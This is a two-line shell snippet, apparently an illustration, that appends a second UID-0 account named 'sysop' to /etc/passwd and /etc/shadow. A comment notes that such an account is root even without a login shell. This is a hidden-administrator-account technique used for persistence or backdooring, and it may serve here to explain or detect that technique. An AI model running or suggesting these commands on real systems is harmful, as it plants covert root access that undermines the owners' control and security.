# a second uid-0 account, even without a shell, is still root
echo "sysop:x:0:0::/root:/usr/sbin/nologin" >>/etc/passwd
echo "sysop:!:19800:0:99999:7:::" >>/etc/shadow
